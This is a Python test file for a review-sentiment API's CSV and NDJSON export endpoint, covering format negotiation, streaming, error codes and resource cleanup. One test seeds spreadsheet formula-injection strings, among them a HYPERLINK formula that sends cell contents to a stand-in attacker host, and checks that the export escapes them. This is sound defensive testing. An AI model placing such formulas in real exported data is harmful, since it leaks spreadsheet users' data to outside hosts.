"""GET /sentiments/export: the content of CSV and NDJSON exports, negotiation, and streaming."""

from __future__ import annotations

import csv
import io
import json
import socket
import time
import tracemalloc
from datetime import UTC, datetime
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import create_engine, pool, text

from core.config import ApiSettings, DatabaseSettings, KafkaSettings
from core.db import sqlalchemy_url
from query_api.export import encode_ndjson, export_chunks
from query_api.filters import Filters
from query_api.queries import PUBLIC_FIELDS, export_statement
from tests.fixtures.api import Seeded, build_app, insert_rows, live_server, make_rows

pytestmark = pytest.mark.integration


def as_text(value: Any) -> str:
    """A stored value as the export writes it: times in UTC end in Z, as in the JSON endpoints."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.astimezone(UTC).isoformat().replace("+00:00", "Z")
    return str(value)


def insert_bulk_rows(database_url: str, count: int) -> None:
    """``count`` rows of ~1.4 kB each, generated server-side to keep the test fast."""
    writer = create_engine(sqlalchemy_url(database_url), poolclass=pool.NullPool)
    with writer.begin() as conn:
        conn.execute(
            text(
                "INSERT INTO sentiments (review_key, sentence, sentiment_score, confidence, label,"
                " suggested_rating, source, model_version)"
                " SELECT 'bulk:' || i, repeat('lorem ipsum ', 110) || i, (i % 100) / 100.0, 0.9, 'neutral', 3,"
                " 'bulk', 'm1' FROM generate_series(1, :count) AS i"
            ),
            {"count": count},
        )
    writer.dispose()


def test_csv_export_holds_every_matching_row_in_id_order(seeded_api: Seeded) -> None:
    response = seeded_api.client.get("/sentiments/export", params={"brand": "Acme", "format": "csv"})
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert 'filename="sentiments.csv"' in response.headers["content-disposition"]
    records = list(csv.DictReader(io.StringIO(response.text)))
    expected = sorted((r for r in seeded_api.rows if r["brand"] == "Acme"), key=lambda r: r["id"])
    assert [int(r["id"]) for r in records] == [r["id"] for r in expected]
    assert list(records[0]) == list(PUBLIC_FIELDS)
    for record, row in zip(records, expected, strict=True):
        assert record == {field: as_text(row[field] if field != "updated_on" else None) for field in PUBLIC_FIELDS}


def test_an_ndjson_record_is_one_line_to_every_line_splitter() -> None:
    """json.dumps leaves U+2028, U+2029 and NEL raw: str.splitlines cut such a review's record in two."""
    row = [None] * len(PUBLIC_FIELDS)
    row[PUBLIC_FIELDS.index("sentence")] = "Fits\u2028well\x85really\u2029 😀"

    body = encode_ndjson([row, row])

    assert len(body.splitlines()) == 2
    assert [json.loads(line)["sentence"] for line in body.splitlines()] == [row[PUBLIC_FIELDS.index("sentence")]] * 2


def test_ndjson_export_is_one_json_object_per_row(seeded_api: Seeded) -> None:
    response = seeded_api.client.get("/sentiments/export", params={"label": "negative", "format": "ndjson"})
    assert response.headers["content-type"] == "application/x-ndjson"
    lines = response.text.splitlines()
    expected = sorted((r for r in seeded_api.rows if r["label"] == "negative"), key=lambda r: r["id"])
    assert len(lines) == len(expected)
    for line, row in zip(lines, expected, strict=True):
        item = json.loads(line)
        assert item["id"] == row["id"]
        assert item["sentence"] == row["sentence"]
        assert item["sentiment_score"] == row["sentiment_score"]
        assert datetime.fromisoformat(item["created_on"]) == row["created_on"]
    first = json.loads(lines[0])
    one = seeded_api.client.get(f"/sentiments/{first['id']}").json()
    assert first["created_on"] == one["created_on"]  # the same text for the same time, Z and all


@pytest.mark.parametrize(
    ("accept", "format_param", "media"),
    [
        ("application/x-ndjson", None, "application/x-ndjson"),
        ("text/csv", None, "text/csv; charset=utf-8"),
        ("application/json, text/csv;q=0.5", None, "application/x-ndjson"),
        ("*/*", None, "text/csv; charset=utf-8"),
        ("application/x-ndjson", "csv", "text/csv; charset=utf-8"),
        ("text/csv;q=0.1, application/x-ndjson", None, "application/x-ndjson"),
        ("application/x-ndjson;q=0, */*", None, "text/csv; charset=utf-8"),
        ("text/html," * 200 + "application/x-ndjson", None, "application/x-ndjson"),  # a long header is fine
    ],
)
def test_the_format_comes_from_the_parameter_else_the_accept_header(
    seeded_api: Seeded, accept: str, format_param: str | None, media: str
) -> None:
    params = {"limit": 3, **({"format": format_param} if format_param else {})}
    response = seeded_api.client.get("/sentiments/export", params=params, headers={"Accept": accept})
    assert response.headers["content-type"] == media
    assert response.headers["vary"] == "Accept"


@pytest.mark.parametrize(
    "accept",
    [
        "image/png",
        "text/csv;q=0, application/x-ndjson;q=0",
        "application/*;q=0",
        "application/x-ndjson;q=0, application/*",  # the wildcard does not undo the refusal
    ],
)
def test_an_accept_header_refusing_both_formats_is_a_406(seeded_api: Seeded, accept: str) -> None:
    response = seeded_api.client.get("/sentiments/export", headers={"Accept": accept})
    assert response.status_code == 406
    assert response.json()["error"]["code"] == "not_acceptable"
    assert response.headers["vary"] == "Accept"  # a cache must not serve it to another Accept
    assert seeded_api.client.get("/sentiments/export?format=csv&limit=1", headers={"Accept": accept}).status_code == 200


def test_text_a_spreadsheet_would_run_is_exported_as_text_and_a_bare_cr_stays_in_its_cell(
    database_url: str, readonly_database_url: str
) -> None:
    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 555", "-2 stars", "@SUM(A1)", "line\rbreak"]
    insert_rows(
        database_url, [{**row, "sentence": text} for row, text in zip(make_rows(len(nasty)), nasty, strict=True)]
    )
    with TestClient(build_app(readonly_database_url)) as client:
        safe = client.get("/sentiments/export", params={"format": "csv"})
        raw = client.get("/sentiments/export", params={"format": "csv", "escape_formulas": "false"})
        ndjson = client.get("/sentiments/export", params={"format": "ndjson"})
    records = list(csv.DictReader(io.StringIO(safe.text, newline="")))
    assert [r["sentence"] for r in records] == ["'" + text for text in nasty[:4]] + ["line\rbreak"]
    assert [r["sentence"] for r in csv.DictReader(io.StringIO(raw.text, newline=""))] == nasty
    assert [json.loads(line)["sentence"] for line in ndjson.text.splitlines()] == nasty
    assert safe.text.endswith("\r\n")


def test_an_export_with_the_database_gone_is_a_503_not_an_empty_200(seeded_api: Seeded) -> None:
    gone = seeded_api.readonly_url.replace("/rs_api_", "/rs_gone_")
    with TestClient(build_app(gone)) as client:
        response = client.get("/sentiments/export", params={"format": "csv"})
    assert response.status_code == 503
    assert response.json()["error"]["code"] == "database_unavailable"


def test_export_limit_and_its_bound(seeded_api: Seeded) -> None:
    limited = seeded_api.client.get("/sentiments/export", params={"format": "ndjson", "limit": 7})
    assert len(limited.text.splitlines()) == 7
    huge = seeded_api.client.get("/sentiments/export", params={"limit": 10**12})
    assert huge.status_code == 422


def test_the_export_arrives_in_several_chunks(database_url: str, readonly_database_url: str) -> None:
    from fastapi.testclient import TestClient

    from tests.fixtures.api import build_app

    insert_rows(database_url, make_rows(2500))
    with (
        TestClient(build_app(readonly_database_url, export_chunk_rows=500)) as client,
        client.stream("GET", "/sentiments/export", params={"format": "ndjson"}) as response,
    ):
        chunks = [chunk for chunk in response.iter_raw() if chunk]
    assert len(chunks) >= 5
    assert sum(chunk.count(b"\n") for chunk in chunks) == 2500


def test_a_client_that_leaves_mid_export_gives_its_database_connection_back(
    database_url: str, readonly_database_url: str
) -> None:
    """The export's connection returns to the pool as soon as its client is gone, not whenever
    garbage collection finds the abandoned generator: a few such clients would empty the pool."""
    insert_bulk_rows(database_url, 20_000)  # ~28 MB: far more than the socket buffers hold
    app = build_app(readonly_database_url, export_chunk_rows=100)
    with live_server(app) as base_url:
        engine_pool = app.state.reviewscore.engine.pool
        address = urlsplit(base_url)
        with socket.socket() as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            client.connect((address.hostname, address.port))
            client.sendall(b"GET /sentiments/export?format=ndjson HTTP/1.1\r\nHost: test\r\n\r\n")
            assert client.recv(4096).startswith(b"HTTP/1.1 200 ")
            assert engine_pool.checkedout() == 1  # the export is streaming; the client reads no further
        deadline = time.monotonic() + 5
        while engine_pool.checkedout() and time.monotonic() < deadline:
            time.sleep(0.02)
        assert engine_pool.checkedout() == 0


def test_head_of_an_export_sends_its_headers_and_stops_without_streaming_the_rows(
    database_url: str, readonly_database_url: str
) -> None:
    insert_bulk_rows(database_url, 5_000)
    app = build_app(readonly_database_url, export_chunk_rows=100)
    with live_server(app) as base_url:
        head = httpx.head(f"{base_url}/sentiments/export?format=csv", timeout=10)
        assert head.status_code == 200
        assert head.headers["content-type"].startswith("text/csv")
        assert head.content == b""
        engine_pool = app.state.reviewscore.engine.pool
        deadline = time.monotonic() + 5
        while engine_pool.checkedout() and time.monotonic() < deadline:
            time.sleep(0.02)
        assert engine_pool.checkedout() == 0
        assert httpx.get(f"{base_url}/healthz", timeout=10).status_code == 200  # the server is fine


def test_exporting_more_rows_does_not_take_more_memory(database_url: str, readonly_database_url: str) -> None:
    """Peak Python memory while exporting 10k rows stays far below the size of the export."""
    insert_bulk_rows(database_url, 10_000)
    engine = create_engine(sqlalchemy_url(readonly_database_url), poolclass=pool.NullPool)
    try:

        def measure(limit: int) -> tuple[int, int]:
            tracemalloc.start()
            size = 0
            for chunk in export_chunks(engine, export_statement(Filters(), limit), "ndjson", 500):
                size += len(chunk)
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            return size, peak

        small_size, small_peak = measure(1_500)
        large_size, large_peak = measure(10_000)
    finally:
        engine.dispose()
    print(f"export {small_size} B: peak {small_peak} B; export {large_size} B: peak {large_peak} B")
    assert large_size > 6 * small_size
    assert large_peak < large_size / 2, f"peak {large_peak} for an export of {large_size} bytes"
    assert large_peak < 1.5 * small_peak, "memory must not grow with the size of the export"


def test_the_connection_an_export_used_reads_in_autocommit_again(seeded_api: Seeded) -> None:
    """The export asks for a transaction (its server-side cursor needs one) on an engine that reads
    in autocommit; the pooled connection goes back to reading without BEGIN and ROLLBACK."""
    from query_api.app import create_app

    database = DatabaseSettings(readonly_url=seeded_api.readonly_url, pool_size=1, max_overflow=0)
    app = create_app(ApiSettings(), database, KafkaSettings())
    with TestClient(app) as client:
        assert client.get("/sentiments/export?limit=5").status_code == 200
        with app.state.reviewscore.engine.connect() as reused:  # the pool's only connection
            autocommit = reused.connection.dbapi_connection.autocommit

    assert autocommit is True
